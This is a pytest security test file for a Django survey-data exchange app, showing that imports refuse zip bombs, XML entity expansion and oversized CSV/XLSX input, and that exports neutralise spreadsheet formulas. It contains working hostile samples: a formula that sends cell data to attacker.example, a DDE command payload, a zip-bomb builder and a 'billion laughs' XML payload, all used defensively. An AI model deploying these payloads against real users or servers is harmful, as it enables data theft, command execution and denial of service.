"""Files in and files out: imports refuse what would exhaust the server, exports never hold a live formula.

Each test reproduces a finding of "Safe to run a real national cycle": a zip-bomb XLSX, a huge CSV
field, a file of junk, too many rows, formulas in answers.xlsx / answers.csv / results.csv, and an
import of 100,000 rows.
"""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from dgmm import InputFileError
from dgmm.cells import inert, typed
from dgmm.web.cycles.actions import SaveAnswer
from dgmm.web.cycles.models import Answer, AuditEntry
from dgmm.web.exchange.actions import import_upload
from tests.web.bulk_support import ANSWERS, CHANGED, add_departments, write_answers
from tests.web.exchange.conftest import csv_bytes, xlsx_bytes

pytestmark = [pytest.mark.django_db, pytest.mark.db]

MB = 1024 * 1024
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'


def xlsx_with_cell(size: int, *, compresslevel: int = 1) -> bytes:
    """A small valid answers workbook whose one value cell holds `size` characters (an inline string).

    Written a piece at a time so the test itself never holds the expanded cell: the zip compresses
    the repeated character about a thousand times.
    """
    buf = io.BytesIO()
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>agency_id</t></is></c><c r="B1" '
        b't="inlineStr"><is><t>input'
        b'</t></is></c><c r="C1" t="inlineStr"><is><t>value</t></is></c></row>'
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>pcio-a1</t></is></c><c r="B2" t="inlineStr"><is><t>X1</t>'
        b'</is></c><c r="C2" t="inlineStr"><is><t>'
    )
    tail = b"</t></is></c></row></sheetData></worksheet>"
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
        'workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="answers" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
        'org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(head)
            piece = b"A" * MB
            for _ in range(size // MB):
                fh.write(piece)
            fh.write(b"A" * (size % MB))
            fh.write(tail)
    return buf.getvalue()


def refused(world, name: str, data: bytes) -> tuple[InputFileError, int]:
    """Import `data` as the analyst; the error and the peak of memory allocated meanwhile (bytes)."""
    tracemalloc.start()
    try:
        with pytest.raises(InputFileError) as exc:
            import_upload(world.cycle, world.users["analyst"], SimpleUploadedFile(name, data))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return exc.value, peak


def only(exc: InputFileError) -> tuple[str, int, str, str]:
    assert len(exc.problems) == 1, exc.problems
    pr = exc.problems[0]
    return pr.file, pr.line, pr.where, pr.code


# --- files in ------------------------------------------------------------------------------------------


def test_a_zip_bomb_xlsx_is_refused_before_it_is_expanded(world):
    bomb = xlsx_with_cell(300 * MB)
    assert len(bomb) < 2 * MB  # a small upload ...
    exc, peak = refused(world, "bomb.xlsx", bomb)
    assert only(exc) == ("bomb.xlsx", 0, "", "xlsx_too_large")
    assert "200.0 MB" in exc.problems[0].message and "uncompressed" in exc.problems[0].message
    assert peak < 20 * MB  # ... refused without expanding it (the finding: 3.6 GB)
    assert not Answer.objects.exists()


def test_one_huge_cell_in_a_small_workbook_is_refused_before_it_is_read(world):
    exc, peak = refused(world, "cell.xlsx", xlsx_with_cell(5 * MB))  # within the uncompressed limit
    assert only(exc) == ("cell.xlsx", 0, "", "cell_too_large")
    assert "10,000" in exc.problems[0].message
    assert peak < 20 * MB


def test_a_cell_over_the_limit_is_named_with_its_row_and_column(world, settings):
    settings.DGMM_IMPORT_MAX_CELL_CHARS = 100
    exc, _peak = refused(world, "long.xlsx", xlsx_with_cell(101))
    assert only(exc) == ("long.xlsx", 2, "value", "cell_too_large")


def test_xml_entities_are_not_expanded(world):
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
        ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row '
        'r="1">'
        '<c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    src = zipfile.ZipFile(io.BytesIO(xlsx_with_cell(10)))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for info in src.infolist():
            zf.writestr(info.filename, laughs if info.filename.endswith("sheet1.xml") else src.read(info))
    exc, _peak = refused(world, "laughs.xlsx", buf.getvalue())
    assert only(exc)[3] == "bad_xlsx"
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML is True  # openpyxl parses with defusedxml (a dependency), not the plain parser


def test_a_huge_csv_field_is_refused_with_its_row(world):
    data = b'agency_id,input,value\npcio-a1,C1,a\npcio-a1,X1,"' + b"x" * (200 * 1024) + b'"\n'
    exc, _peak = refused(world, "field.csv", data)
    assert only(exc) == ("field.csv", 3, "", "cell_too_large")
    assert "10,000" in exc.problems[0].message


def test_an_unclosed_quote_is_reported_not_a_server_error(world, client_for):
    data = b'agency_id,input,value\npcio-a1,X1,"' + b"never closed, " * 20_000
    response = client_for("analyst").post(
        f"/exchange/{world.cycle.code}/import/?format=json", {"file": SimpleUploadedFile("open.csv", data)}
    )
    body = response.json()
    assert response.status_code == 400 and body["errors"][0]["code"] == "cell_too_large"
    assert body["errors"][0]["row"] == 2 and body["errors"][0]["file"] == "open.csv"


def test_an_11_mb_junk_csv_gives_a_short_error(world, client_for):
    junk = io.StringIO()
    junk.write("agency_id,input,value\n")
    i = 0
    while junk.tell() < 11 * MB:
        junk.write(f"junk-{i}-{'z' * 1000},{'q' * 500},{'v' * 500}\n")
        i += 1
    data = junk.getvalue().encode()
    for fmt in ("json", "html"):
        url = f"/exchange/{world.cycle.code}/import/" + ("?format=json" if fmt == "json" else "")
        response = client_for("analyst").post(url, {"file": SimpleUploadedFile("junk.csv", data)})
        assert response.status_code == 400
        assert len(response.content) < 150 * 1024  # the finding: 326 MB
    body = json.loads(
        client_for("analyst")
        .post(
            f"/exchange/{world.cycle.code}/import/?format=json",
            {"file": SimpleUploadedFile("junk.csv", data)},
        )
        .content
    )
    assert len(body["errors"]) == 100 and body["more"] >= i - 100
    assert body["errors"][0]["row"] == 2 and body["errors"][0]["code"] == "not_participant"
    assert f"and {body['more']} more" in response.content.decode()  # the page counts the rest


def test_an_upload_over_the_size_limit_is_refused_in_thai(world, client_for, settings):
    settings.DGMM_IMPORT_MAX_BYTES = MB
    client = client_for("analyst")
    response = client.post(
        f"/exchange/{world.cycle.code}/import/?format=json",
        {"file": SimpleUploadedFile("big.csv", b"agency_id,input,value\n" + b"x,y,z\n" * 200_000)},
        HTTP_ACCEPT_LANGUAGE="th",
    )
    body = response.json()
    assert response.status_code == 400 and body["code"] == "file_too_large"
    assert "big.csv" in body["error"] and "1.0 MB" in body["error"] and "แบ่ง" in body["error"]


def test_too_many_rows_are_refused(world, settings):
    settings.DGMM_IMPORT_MAX_ROWS = 1000
    rows = [["pcio-a1", "X1", f"note {i}", ""] for i in range(1001)]
    for name, data in (("rows.csv", csv_bytes(rows)), ("rows.xlsx", xlsx_bytes(rows))):
        with pytest.raises(InputFileError) as exc:
            import_upload(world.cycle, world.users["analyst"], SimpleUploadedFile(name, data))
        assert only(exc.value) == (name, 1002, "", "too_many_rows")
        assert "1,000" in exc.value.problems[0].message
    assert not Answer.objects.exists()


def test_an_agencies_file_over_the_limits_is_refused(world, client_for, settings):
    settings.DGMM_IMPORT_MAX_CELL_CHARS = 50
    data = ("id,name_th,tier\nnew-1," + "ก" * 51 + ",department\n").encode()
    response = client_for("analyst").post(
        "/registry/import/", {"file": SimpleUploadedFile("agencies.csv", data)}
    )
    assert response.status_code == 400 and "50" in response.content.decode()
    assert not world.dept_a.__class__.objects.filter(code="new-1").exists()


def test_100000_rows_are_imported_with_versions_and_audit(world, tmp_path):
    codes = add_departments(world.cycle, 10_000)
    path = tmp_path / "answers.csv"
    assert write_answers(path, codes, ANSWERS) == 100_000
    report = import_upload(
        world.cycle, world.users["analyst"], SimpleUploadedFile("big.csv", path.read_bytes())
    )
    assert (report.rows, report.created, report.updated, report.agencies) == (100_000, 100_000, 0, 10_000)
    assert Answer.objects.filter(cycle=world.cycle, version=1).count() == 100_000
    assert AuditEntry.objects.filter(kind="answer", note__contains="big.csv").count() == 100_000
    # the same agencies again, every value changed: each answer one version up, each change audited
    some = codes[:1000]
    write_answers(path, some, CHANGED)
    report = import_upload(
        world.cycle, world.users["analyst"], SimpleUploadedFile("again.csv", path.read_bytes())
    )
    assert (report.created, report.updated, report.unchanged) == (0, 10_000, 0)
    changed = Answer.objects.filter(agency__code__in=some)
    assert set(changed.values_list("version", flat=True)) == {2}
    x1 = changed.get(agency__code=some[0], code="X1")
    assert x1.value == "@note"
    log = AuditEntry.objects.get(kind="answer", note__contains="again.csv", agency__code=some[0], target="X1")
    assert (log.old_value, log.new_value, log.actor) == ("=1+2", "@note", world.users["analyst"])


# --- files out -----------------------------------------------------------------------------------------


def answers_with_formulas(world) -> None:
    p = world.participation(world.dept_a)
    SaveAnswer(p, world.users["resp_dept_a"], "X1", FORMULA, 0).execute()
    SaveAnswer(p, world.users["resp_dept_a"], "N2", "-5", 0).execute()


def test_a_formula_answer_is_inert_text_in_answers_xlsx(world, client_for):
    from openpyxl import load_workbook

    answers_with_formulas(world)
    response = client_for("analyst").get(f"/exchange/{world.cycle.code}/answers.xlsx")
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = {(r[1].value, r[2].value): r[2] for r in ws.iter_rows(min_row=2)}
    formula = next(c for (code, _v), c in cells.items() if code == "X1")
    assert formula.data_type == "s" and formula.value == "'" + FORMULA
    number = next(c for (code, _v), c in cells.items() if code == "N2")
    assert number.value == "-5"  # a number is left as it is
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_a_formula_answer_is_inert_text_in_answers_csv(world, client_for):
    answers_with_formulas(world)
    text = client_for("analyst").get(f"/exchange/{world.cycle.code}/answers.csv").content.decode("utf-8-sig")
    rows = {r[1]: r[2] for r in csv.reader(io.StringIO(text)) if r[0] == "dept-a"}
    assert rows["X1"] == "'" + FORMULA and rows["N2"] == "-5"


def test_an_exported_formula_imports_back_as_typed(world, client_for):
    answers_with_formulas(world)
    before = sorted(Answer.objects.values_list("code", "value", "version"))
    for fmt in ("csv", "xlsx"):
        content = client_for("analyst").get(f"/exchange/{world.cycle.code}/answers.{fmt}").content
        report = import_upload(
            world.cycle, world.users["analyst"], SimpleUploadedFile(f"back.{fmt}", content)
        )
        assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert sorted(Answer.objects.values_list("code", "value", "version")) == before
    assert ("X1", FORMULA, 1) in before


def test_agency_names_are_inert_in_results_csv(tmp_path):
    from dgmm import load_framework
    from dgmm.pipeline import score_files
    from dgmm.simulate.cycle import simulate_cycle
    from dgmm.simulate.output import write_csv
    from tests.web.conftest import MINI

    fw = load_framework(str(MINI))
    agencies_csv, answers_csv = write_csv(simulate_cycle(fw, 3, seed=1), tmp_path)
    rows = list(csv.reader(agencies_csv.open(encoding="utf-8")))
    rows[1][1], rows[2][2] = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
    with agencies_csv.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    _doc, _json, results_csv = score_files(fw, agencies_csv, answers_csv, tmp_path / "results.json")
    out = {
        r["agency_id"]: r for r in csv.DictReader(io.StringIO(Path(results_csv).read_text(encoding="utf-8")))
    }
    assert out[rows[1][0]]["name_th"] == "'" + FORMULA
    assert out[rows[2][0]]["name_en"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert all(not v or v[0] not in "=+@\t\r" or v.startswith("'") for r in out.values() for v in r.values())


@pytest.mark.parametrize(
    ("typed_value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+66 2 123 4567", "'+66 2 123 4567"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("12.5", "12.5"),
        ("+3", "+3"),
        ("-1.5e3", "-1.5e3"),
        ("'=x", "''=x"),
        ("'quoted", "'quoted"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_inert_cells_come_back_as_typed(typed_value, written):
    assert inert(typed_value) == written
    assert typed(written) == typed_value


@pytest.mark.parametrize("name", ["answers.csv", "answers.xlsx"])
def test_the_dgmm_command_refuses_a_huge_cell_with_exit_1(tmp_path, name):
    from click.testing import CliRunner

    from dgmm.cli.main import cli
    from tests.web.conftest import MINI

    agencies = tmp_path / "agencies.csv"
    agencies.write_text("id,name_th,tier\nD1,กรมหนึ่ง,department\n", encoding="utf-8")
    answers = tmp_path / name
    if name.endswith(".csv"):
        answers.write_bytes(b'agency_id,input,value\nD1,Q1,"' + b"a" * 40_000 + b'"\n')
    else:
        answers.write_bytes(xlsx_with_cell(300 * MB))
    result = CliRunner().invoke(
        cli,
        [
            "score",
            str(MINI),
            "--agencies",
            str(agencies),
            "--answers",
            str(answers),
            "-o",
            str(tmp_path / "results.json"),
        ],
    )
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "more than 32,767 characters" in result.output  # the CLI's limits: the cell, scanned with a cap
    assert not (tmp_path / "results.json").exists()
